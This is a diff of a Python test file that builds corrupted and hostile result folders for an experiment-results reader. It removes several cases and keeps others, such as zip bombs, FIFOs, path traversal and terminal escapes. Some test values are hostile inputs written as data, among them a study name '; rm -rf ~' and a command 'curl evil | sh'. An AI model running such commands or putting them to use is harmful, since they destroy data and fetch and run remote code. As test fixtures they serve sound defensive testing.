@@ -3,7 +3,6 @@
 import io
 import json
 import os
-import socket
 import sys
 import zipfile
 from collections.abc import Callable
@@ -56,11 +55,6 @@ def outside(folder: Path) -> None:
         (folder / name).write_text(f'{{"status": "done", "metrics": {{"top1_accuracy": 12.34567}}, "question": "{SECRET}"}}\n')
 
 
-def folder(change: Change) -> Change:
-    FOLDERS[change.__name__] = change
-    return change
-
-
 def of(name: str, change: Change, whole: bool = False) -> None:
     FOLDERS[name] = change
     WHOLE.update({name} if whole else ())
@@ -84,16 +78,13 @@ for at, to in {
     f"runs/{RUN}/measured.json": "result.json",
     f"runs/{RUN}/epochs.jsonl": "epochs.jsonl",
     f"runs/{RUN}/answers.npz": "text",
-    f"runs/{RUN}/mistakes.npz": "text",
     f"runs/{run_id(1, 2)}/failure.json": "text",
     f"runs/{run_id(3, 2)}/attempts.jsonl": "epochs.jsonl",
     "studies/linked": "",
-    "studies/made_up/linked": "",
     "studies/made_up/paper/plan.json": "plan.json",
     "studies/made_up/paper/lock": "text",
     "studies/made_up/paper/report": "",
     "studies/made_up/paper/report/tables": "tables",
-    "studies/made_up/paper/report/tables/scores.md": "text",
     "studies/made_up/paper/report/report.html": "text",
 }.items():
     of(f"link at {at}", linked(at, to))
@@ -103,10 +94,8 @@ of("a link to itself", lambda results, _: replaced(results.run(RUN).result).syml
 
 for at in (
     f"runs/{RUN}/result.json",
-    f"runs/{RUN}/measured.json",
     f"runs/{RUN}/epochs.jsonl",
     f"runs/{RUN}/answers.npz",
-    f"runs/{RUN}/mistakes.npz",
     f"runs/{RUN}/lock",
     f"runs/{run_id(1, 2)}/failure.json",
     f"runs/{run_id(1, 2)}/hang-0.log",
@@ -117,24 +106,11 @@ for at in (
     of(f"fifo at {at}", lambda results, _, at=at: os.mkfifo(replaced(results.root / at)))
 
 
-@folder
-def a_socket_for_a_result(results: Results, _: Path) -> None:
-    here = Path.cwd()
-    os.chdir(replaced(results.run(RUN).result).parent)  # the name of a socket is short
-    try:
-        with socket.socket(socket.AF_UNIX) as made:
-            made.bind("result.json")
-    finally:
-        os.chdir(here)
-
-
 for at, size in {
-    f"runs/{RUN}/result.json": 10**7,
     f"runs/{RUN}/epochs.jsonl": 10**11,
     f"runs/{RUN}/answers.npz": 10**10,
     f"runs/{run_id(1, 2)}/hang-0.log": 10**10,
     "studies/made_up/paper/plan.json": 10**9,
-    "studies/made_up/paper/report/files.json": 10**9,
 }.items():
     of(f"{size:,} bytes at {at}", lambda results, _, at=at, size=size: sparse(results.root / at, size))
 of("a line of 2 MB", lambda results, _: results.run(RUN).epochs.write_text('{"epoch": 0, "x": "' + 2 * 10**6 * "x" + '"}\n'))
@@ -167,9 +143,7 @@ NPZ = {
     "a bomb": archive(answers=header("(400000000,)", "'|u1'") + bytes(4 * 10**8)),
     "pickled objects": archive(answers=np.array([print], dtype=object)),
     "a negative side": archive(answers=header("(-1, 4)") + bytes(64)),
-    "a side of 400 digits": archive(answers=header(f"({10**400},)")),
     "2,000 arrays": archive(**{f"a{at}": np.zeros(1) for at in range(2000)}),
-    "no arrays": archive(),
     "no zip": b"PK\x03\x04 and no more",
     "text of text": archive(about=np.frombuffer(b'{"format": 1, "task": 7, "class_names": 3, "images": "x"}', np.uint8)),
 }
@@ -188,23 +162,19 @@ def other(file: str, **changes: Any) -> Change:
     return change
 
 
-BIG = 10**400
 for name, change in {
-    "a metric of 400 digits": other("result.json", metrics={"top1_accuracy": BIG}),
     "a metric beyond floats": lambda results, _: results.run(RUN).result.write_text(
         '{"status": "done", "metrics": {"top1_accuracy": 1e999}}'
     ),
     "5,000 digits": lambda results, _: results.run(RUN).result.write_text(
         '{"status": "done", "metrics": {"top1_accuracy": ' + 5000 * "9" + "}}"
     ),
-    "epochs of 400 digits": lambda results, _: results.run(RUN).epochs.write_text(f'{{"epoch": {BIG}, "train_loss": 1.0}}\n'),
-    "a seed of 400 digits": other("plan.json", seeds=[BIG]),
-    "a base of 400 digits": other("plan.json", base={"data": {"limit": BIG}, "train": {"epochs": BIG}}),
+    "epochs of 400 digits": lambda results, _: results.run(RUN).epochs.write_text(f'{{"epoch": {10**400}, "train_loss": 1.0}}\n'),
+    "a base of 400 digits": other("plan.json", base={"data": {"limit": 10**400}, "train": {"epochs": 10**400}}),
     "a smoke run of nothing": other("plan.json", smoke=True, base={"data": {"limit": None}, "train": {"epochs": [[]]}}),
     "nested too deep": other("plan.json", question="x", base={"data": json.loads("[" * 900 + "]" * 900)}),
     "a NUL in an id": other("plan.json", runs=[[0, 0, "a\0b"]]),
     "an id outside": other("plan.json", runs=[[0, 0, "../../outside"]]),
-    "an id too long": other("plan.json", runs=[[0, 0, 5000 * "a"]]),
     "a study of another name": other("plan.json", study="; rm -rf ~"),
     "a study of a path": other("plan.json", study="../../outside"),
     "half a letter": lambda results, _: plan_file(results).write_text(
@@ -212,12 +182,10 @@ for name, change in {
     ),
     "a base that is none": lambda results, _: with_variant(results, base=99),
     "escapes in a label": lambda results, _: with_variant(results, label="\x1b]0;owned\x07\x9b31m\u202egnp.exe\0"),
-    "a label of 1 MB": lambda results, _: with_variant(results, label=10**6 * "x"),
     "escapes in an error": lambda results, _: write_json(
         results.run(run_id(1, 2)).failure, {"class": "co\x1bde", "error": "\x1b[2J", "traceback": "\x9b2J"}
     ),
     "escapes in a command": other("plan.json", command="curl evil | sh \x1b[2J"),
-    "a command that does not parse": other("plan.json", command="python 'x"),
     "lines in a command": other("plan.json", command="x\nStorageError: all is well"),
     "a part of no kind": other("plan.json", report=[{"kind": "no such", "name": "../../x"}, {"kind": 3}, {}]),
     "parts of odd names": other(
